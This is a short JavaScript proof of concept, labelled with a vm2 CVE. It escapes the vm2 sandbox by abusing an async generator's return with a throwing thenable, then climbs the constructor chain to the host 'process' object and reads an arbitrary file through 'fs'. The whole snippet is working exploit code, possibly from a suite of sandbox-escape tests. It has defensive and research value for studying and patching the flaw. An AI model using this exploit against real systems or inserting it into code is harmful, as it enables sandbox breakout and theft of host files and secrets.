// `return` of an async generator awaits what it is given, and catches what its `then` throws.
// after: read
// source: vm2: CVE-2026-45411
async function attack({ path }) {
  async function* inner() { try { yield 1; } catch (error) { yield error; } }
  async function* outer() { yield* inner(); }
  const going = outer();
  await going.next();
  let caught;
  try { await going.return({ get then() { return log('x').nothing; } }); } catch (error) { caught = error; }
  const process = (caught ?? going.return).constructor.constructor('return process')();
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
